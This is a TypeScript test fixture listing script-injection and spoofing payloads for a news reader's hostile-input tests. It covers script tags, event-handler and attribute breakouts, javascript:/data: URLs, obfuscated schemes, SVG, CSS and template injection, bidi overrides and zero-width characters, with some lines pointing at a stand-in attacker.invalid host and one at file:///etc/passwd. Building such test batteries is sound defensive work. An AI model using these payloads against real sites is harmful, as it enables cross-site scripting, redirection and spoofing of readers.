/**
 * Script-injection and spoofing payloads, written for Sahifa's hostile-input battery (issue #5).
 *
 * Each one is placed in every string field of a valid article (test/hostile/parse.test.ts) and
 * rendered by the reader (test/hostile/render.test.tsx). None may execute, none may become
 * markup, and no unsafe link may become clickable. Every payload that would run script calls
 * `alert(...)`, so a browser battery can catch any that does with a single dialog handler.
 *
 * `safeHref` is our own verdict on the payload used as a link target, independent of
 * `isSafeHref`: true only where a browser would resolve it to an http, https or mailto URL.
 */

export type PayloadClass =
  | 'html-tag'
  | 'event-handler'
  | 'url-scheme'
  | 'url-obfuscated'
  | 'svg'
  | 'css'
  | 'template'
  | 'bidi-spoof'
  | 'zero-width'
  | 'text-edge';

export interface Payload {
  /** Stable, unique name used in test titles and reports. */
  id: string;
  class: PayloadClass;
  text: string;
  /** True when, as a link target, the payload is an http(s) or mailto URL (so it may be linked). */
  safeHref?: boolean;
}

/** `<script>` markup base64-encoded at load time, for the `data:` URL payloads. */
const encodedScript = btoa('<script>alert("sahifa-data-base64")</script>');

const p = (id: string, cls: PayloadClass, text: string, safeHref = false): Payload => ({ id, class: cls, text, safeHref });

export const PAYLOADS: readonly Payload[] = [
  // HTML elements that run script, load content or restyle the page when parsed as markup.
  p('script-element', 'html-tag', '<script>alert("sahifa-script")</script>'),
  p('script-upper-src', 'html-tag', '<SCRIPT SRC="https://attacker.invalid/x.js"></SCRIPT>'),
  p('script-split-close', 'html-tag', '<scr<script>ipt>alert("sahifa-split")</scr</script>ipt>'),
  p('img-onerror', 'html-tag', '<img src="missing.png" onerror="alert(\'sahifa-img\')">'),
  p('img-unquoted', 'html-tag', '<img src=x onerror=alert(2)//'),
  p('iframe-js', 'html-tag', '<iframe src="javascript:alert(\'sahifa-iframe\')"></iframe>'),
  p('iframe-srcdoc', 'html-tag', '<iframe srcdoc="&lt;script&gt;alert(3)&lt;/script&gt;"></iframe>'),
  p('close-paragraph-then-script', 'html-tag', '</p></article><script>alert("sahifa-breakout")</script><p>'),
  p('close-attribute-then-script', 'html-tag', '"><script>alert("sahifa-attr-break")</script>'),
  p('close-single-quoted-attribute', 'html-tag', "'><img src=x onerror=alert(4)>"),
  p('anchor-js', 'html-tag', '<a href="javascript:alert(5)">اضغط هنا</a>'),
  p('style-element', 'html-tag', '<style>body{visibility:hidden}</style>'),
  p('meta-refresh', 'html-tag', '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">'),
  p('base-href', 'html-tag', '<base href="https://attacker.invalid/">'),
  p('form-action', 'html-tag', '<form action="javascript:alert(6)"><button>تحديث</button></form>'),
  p('object-data', 'html-tag', '<object data="data:text/html,<script>alert(7)</script>"></object>'),
  p('embed-src', 'html-tag', '<embed src="javascript:alert(8)">'),
  p('details-ontoggle', 'html-tag', '<details open ontoggle="alert(9)"><summary>x</summary></details>'),
  p('input-autofocus', 'html-tag', '<input autofocus onfocus="alert(10)">'),
  p('body-onload', 'html-tag', '<body onload="alert(11)">'),
  p('video-source-onerror', 'html-tag', '<video><source onerror="alert(12)"></video>'),
  p('comment-smuggle', 'html-tag', '<!-- --><img src=x onerror=alert(13)> -->'),
  p('noscript-smuggle', 'html-tag', '<noscript><p title="</noscript><img src=x onerror=alert(14)>"></noscript>'),
  p('template-script', 'html-tag', '<template><script>alert(15)</script></template>'),
  p('math-mtext-style', 'html-tag', '<math><mtext><table><mglyph><style><img src=x onerror=alert(16)></style></mglyph></table></mtext></math>'),
  p('cdata-script', 'html-tag', '<![CDATA[<script>alert(17)</script>]]>'),
  p('textarea-breakout', 'html-tag', '</textarea><script>alert(18)</script>'),
  p('title-breakout', 'html-tag', '</title><script>alert(19)</script>'),
  p('json-script-breakout', 'html-tag', '</script><script>alert("sahifa-page-data")</script>'),
  p('pre-escaped-entities', 'html-tag', '&lt;script&gt;alert(20)&lt;/script&gt; &amp; &#60;b&#62;'),

  // Attribute injection: text meant to end an attribute value and add a handler.
  p('attr-double-quote-handler', 'event-handler', '" onmouseover="alert(21)" data-x="'),
  p('attr-single-quote-handler', 'event-handler', "' onfocus='alert(22)' autofocus='"),
  p('attr-unquoted-handler', 'event-handler', 'x onclick=alert(23) '),
  p('attr-backtick-handler', 'event-handler', '`onpointerenter=alert(24)`'),
  p('attr-newline-handler', 'event-handler', '"\nonanimationstart="alert(25)'),

  // Link schemes: only http, https and mailto may ever be linked.
  p('javascript-url', 'url-scheme', 'javascript:alert(26)'),
  p('javascript-mixed-case', 'url-scheme', 'JaVaScRiPt:alert(27)'),
  p('javascript-comment-newline', 'url-scheme', 'javascript://%0Aalert(28)'),
  p('data-html', 'url-scheme', 'data:text/html,<script>alert(29)</script>'),
  p('data-html-base64', 'url-scheme', `data:text/html;base64,${encodedScript}`),
  p('data-svg-upper', 'url-scheme', 'DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(30)"/>'),
  p('vbscript-url', 'url-scheme', 'vbscript:msgbox("sahifa")'),
  p('vbscript-mixed-case', 'url-scheme', 'VbScRiPt:MsgBox(31)'),
  p('file-url', 'url-scheme', 'file:///etc/passwd'),
  p('blob-url', 'url-scheme', 'blob:https://attacker.invalid/0a1b2c'),
  p('protocol-relative', 'url-scheme', '//attacker.invalid/steal'),
  p('backslash-host', 'url-scheme', '/\\attacker.invalid/steal'),
  p('https-no-slashes', 'url-scheme', 'https:attacker.invalid'),
  p('https-quote-breakout', 'url-scheme', 'https://news.invalid/"onmouseover="alert(32)', true),
  p('https-angle-brackets', 'url-scheme', 'https://news.invalid/<script>alert(33)</script>', true),
  p('https-bidi-in-path', 'url-scheme', 'https://news.invalid/\u202Egpj.exe', true),
  p('mailto-header-injection', 'url-scheme', 'mailto:desk@news.invalid?bcc=all@attacker.invalid&body=%3Cscript%3E', true),
  p('plain-https', 'url-scheme', 'https://news.invalid/2026/11/geneva-talks?utm=x#p3', true),

  // The same schemes disguised: whitespace, control characters, entities, percent-encoding.
  p('javascript-leading-space', 'url-obfuscated', '   javascript:alert(34)'),
  p('javascript-tab-inside', 'url-obfuscated', 'java\tscript:alert(35)'),
  p('javascript-newline-inside', 'url-obfuscated', 'java\nscript:alert(36)'),
  p('javascript-leading-control', 'url-obfuscated', '\u0001javascript:alert(37)'),
  p('javascript-leading-nbsp', 'url-obfuscated', '\u00A0javascript:alert(38)'),
  p('javascript-entity-colon', 'url-obfuscated', 'javascript&colon;alert(39)'),
  p('javascript-decimal-entities', 'url-obfuscated', '&#106;&#97;&#118;&#97;script:alert(40)'),
  p('javascript-hex-entities', 'url-obfuscated', '&#x6A;avascript&#x3A;alert(41)'),
  p('javascript-percent-colon', 'url-obfuscated', 'javascript%3Aalert(42)'),
  p('https-then-javascript', 'url-obfuscated', 'https://news.invalid/ javascript:alert(43)'),
  p('https-with-control', 'url-obfuscated', 'https://news.invalid/\u0000javascript:alert(44)'),
  p('javascript-fullwidth-colon', 'url-obfuscated', 'javascript\uFF1Aalert(45)'),

  // SVG: script, event handlers, animation and links inside an SVG island.
  p('svg-onload', 'svg', '<svg onload="alert(46)">'),
  p('svg-script', 'svg', '<svg><script>alert(47)</script></svg>'),
  p('svg-animate-begin', 'svg', '<svg><animate onbegin="alert(48)" attributeName="x" dur="1s"/></svg>'),
  p('svg-xlink', 'svg', '<svg><a xlink:href="javascript:alert(49)"><text x="10" y="20">خبر عاجل</text></a></svg>'),
  p('svg-set-href', 'svg', '<svg><a><set attributeName="href" to="javascript:alert(50)"/><text y="20">x</text></a></svg>'),
  p('svg-foreign-object', 'svg', '<svg><foreignObject><iframe src="javascript:alert(51)"></iframe></foreignObject></svg>'),

  // CSS: legacy expression(), script URLs in url(), bindings, style-context breakouts.
  p('css-expression', 'css', '<div style="width:expression(alert(52))">'),
  p('css-url-javascript', 'css', '<p style="background-image:url(javascript:alert(53))">'),
  p('css-bare-declarations', 'css', 'color:red;background:url("javascript:alert(54)");width:expression(alert(55))'),
  p('css-import', 'css', '@import url("https://attacker.invalid/x.css");'),
  p('css-moz-binding', 'css', '-moz-binding:url("https://attacker.invalid/x.xml#run")'),
  p('css-behavior', 'css', 'behavior:url(#default#time2)'),
  p('css-style-breakout', 'css', '</style><script>alert(56)</script>'),

  // Template and interpolation syntax: must be shown literally, never evaluated.
  p('mustache-constructor', 'template', "{{constructor.constructor('alert(57)')()}}"),
  p('template-literal', 'template', '${alert(58)}'),
  p('i18next-interpolation', 'template', '{{name}} {{count}}'),
  p('i18next-nesting', 'template', '$t(article.draft) $t(errors.loading)'),
  p('server-template', 'template', '<%= 7*7 %> #{7*7} ${{7*7}}'),
  p('angular-expression', 'template', '{{$on.constructor("alert(59)")()}}'),

  // Bidi controls: overrides, embeddings and isolates left open, to reorder text after them.
  p('rlo-unterminated', 'bidi-spoof', '\u202Eأخبار'),
  p('rlo-filename', 'bidi-spoof', 'report\u202Efdp.exe'),
  p('rlo-mimics-chrome', 'bidi-spoof', '\u202E:هلاق'),
  p('lro-unterminated', 'bidi-spoof', '\u202DReuters'),
  p('rle-unterminated', 'bidi-spoof', '\u202Bوكالة'),
  p('rli-unterminated', 'bidi-spoof', '\u2067مصدر'),
  p('fsi-unterminated', 'bidi-spoof', '\u2068source'),
  p('stray-pdf-pdi', 'bidi-spoof', '\u202C\u2069خبر\u202C\u2069'),
  p('rlm-alm-marks', 'bidi-spoof', '\u200F\u061C123\u200F'),

  // Zero-width and invisible characters, to disguise one name as another.
  p('zwsp-inside-name', 'zero-width', 'Reu\u200Bters'),
  p('zwj-zwnj', 'zero-width', 'لا\u200Dفروف\u200C'),
  p('word-joiner-bom', 'zero-width', '\u2060\uFEFFالوزير\uFEFF'),
  p('only-invisible', 'zero-width', '\u200B\u200C\u200D\u2060'),

  // Other text that breaks naive handling.
  p('nul-and-controls', 'text-edge', 'a\u0000b\u0007c\u001B[31md\u007F'),
  p('lone-surrogates', 'text-edge', '\uD800x\uDFFFy\uDBFF'),
  p('line-separators', 'text-edge', 'سطر\u2028سطر\u2029فقرة\r\nآخر\u0085'),
  p('combining-flood', 'text-edge', `ز${'\u0651\u064E\u0670'.repeat(80)}`),
  p('long-word', 'text-edge', 'ك'.repeat(1_000)),
  p('html-comment-open', 'text-edge', '<!-- '),
  p('proto-name', 'text-edge', '__proto__'),
  p('constructor-name', 'text-edge', 'constructor'),
];
